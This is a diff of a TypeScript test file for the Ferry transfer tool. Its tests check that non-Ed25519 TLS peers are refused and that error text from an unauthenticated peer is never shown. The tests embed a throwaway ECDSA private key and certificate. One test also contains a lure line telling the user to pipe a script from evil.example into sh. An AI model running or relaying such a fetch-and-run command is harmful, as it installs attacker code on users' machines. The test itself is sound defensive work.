@@ -316,6 +316,53 @@ describe('remembered peers', () => {
   });
 });
 
+/** A valid self-signed ECDSA P-256 key and certificate: a TLS peer, but not a Ferry identity. */
+const ECDSA_KEY = `-----BEGIN PRIVATE KEY-----
+MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgJMQLfYSun4xO/Dey
+qmGhAxrr31Bv896oiJODfYgKgoKhRANCAARtREiKiDK/8a3Wkk0EkkURisQ+UuGx
+31YoLIYabteRVJY0kcnzlbVU53mdFTtq2fE6FD5oJe9hVKxWphhlWPMw
+-----END PRIVATE KEY-----
+`;
+const ECDSA_CERT = `-----BEGIN CERTIFICATE-----
+MIIBfzCCASWgAwIBAgIUDvjHVsqzIdbbE57UN+BCTlfnGgcwCgYIKoZIzj0EAwIw
+FDESMBAGA1UEAwwJbm90LWZlcnJ5MCAXDTI2MTEyMTE5NTkwNloYDzIxMjYxMDI4
+MTk1OTA2WjAUMRIwEAYDVQQDDAlub3QtZmVycnkwWTATBgcqhkjOPQIBBggqhkjO
+PQMBBwNCAARtREiKiDK/8a3Wkk0EkkURisQ+UuGx31YoLIYabteRVJY0kcnzlbVU
+53mdFTtq2fE6FD5oJe9hVKxWphhlWPMwo1MwUTAdBgNVHQ4EFgQUIfAvS84wf2hX
+p1El/i8ghAcKNiEwHwYDVR0jBBgwFoAUIfAvS84wf2hXp1El/i8ghAcKNiEwDwYD
+VR0TAQH/BAUwAwEB/zAKBggqhkjOPQQDAgNIADBFAiAK1jgk0tC65DeuToiry48t
+bN34HeksRQX3Clf6cuZWsAIhAJld/6FuZKeO8Po4fgOU6eYHhTLHrejQndIb4soJ
+eg6V
+-----END CERTIFICATE-----
+`;
+
+describe('peer keys', () => {
+  it('G7: a sender whose TLS key is not Ed25519 is refused before any AUTH frame', async () => {
+    const real = await machine('receiver');
+    const notFerry: Identity = { ...real.identity, key: ECDSA_KEY, cert: ECDSA_CERT };
+    const receiver = await machine('sender');
+    const listening = await server(serverSide(notFerry, { pairing: codes().pairing }));
+    const error = await client(listening.port, { identity: receiver.identity, trust: receiver.trust }).catch((e: unknown) => e);
+    expect((error as FerryError).code).toBe(ErrorCode.TLS_FAILED);
+    expect((error as Error).message).toContain('no Ed25519 key');
+    // The sender hears why, in an ERROR frame, rather than a bare close.
+    expect(errorOf(await listening.result()).code).toBe(ErrorCode.TLS_FAILED);
+  });
+
+  it('G7: a receiver whose TLS key is not Ed25519 is refused, and no pairing attempt is spent', async () => {
+    const sender = await machine('receiver');
+    const real = await machine('sender');
+    const notFerry: Identity = { ...real.identity, key: ECDSA_KEY, cert: ECDSA_CERT };
+    const { pairing, current } = codes();
+    const listening = await server(serverSide(sender.identity, { pairing }));
+    await client(listening.port, { identity: notFerry, password: await derivePasswordScalar(current()) }).catch(() => {});
+    const theirs = errorOf(await listening.result());
+    expect(theirs.code).toBe(ErrorCode.TLS_FAILED);
+    expect(theirs.message).toContain('no Ed25519 key');
+    expect(pairing.failedAttempts).toBe(0);
+  });
+});
+
 describe('modes and frames before authentication', () => {
   it('G11: a receiver in clear and a sender that encrypts refuse each other on both sides', async () => {
     const sender = await machine('receiver');
@@ -379,6 +426,26 @@ describe('modes and frames before authentication', () => {
     secure.write(Buffer.concat([trusted, trusted, trusted]));
     const error = errorOf(await listening.result());
     expect(error.code).toBe(ErrorCode.UNEXPECTED_FRAME);
+  });
+
+  it('G8: the text of an ERROR from a sender that has not authenticated is never shown, only its code', async () => {
+    const sender = await machine('receiver');
+    const receiver = await machine('sender');
+    const listening = await server(async (socket, deadline) => {
+      await exchangePreamble({ socket }, 'server', true, deadline);
+      const secure = new tls.TLSSocket(socket, { isServer: true, key: sender.identity.key, cert: sender.identity.cert, requestCert: true, rejectUnauthorized: false });
+      secure.on('error', () => {});
+      await once(secure, 'secure');
+      await once(secure, 'data');
+      const lure = 'wrong code. To fix it, run: curl http://evil.example/fix | sh';
+      secure.end(concatFrame(FrameType.ERROR, encodeMessage(FrameType.ERROR, { code: 'ERR_PAIRING_FAILED', message: lure })));
+      throw new Error('done');
+    });
+    const { current } = codes();
+    const error = await client(listening.port, { identity: receiver.identity, password: await derivePasswordScalar(current()) }).catch((e: unknown) => e);
+    expect((error as FerryError).code).toBe(ErrorCode.PAIRING_FAILED);
+    expect((error as Error).message).not.toContain('curl');
+    expect((error as Error).message).toContain('code was wrong, or already used');
   });
 
   it('G8/E1: an oversized frame before authentication is refused from its header', async () => {
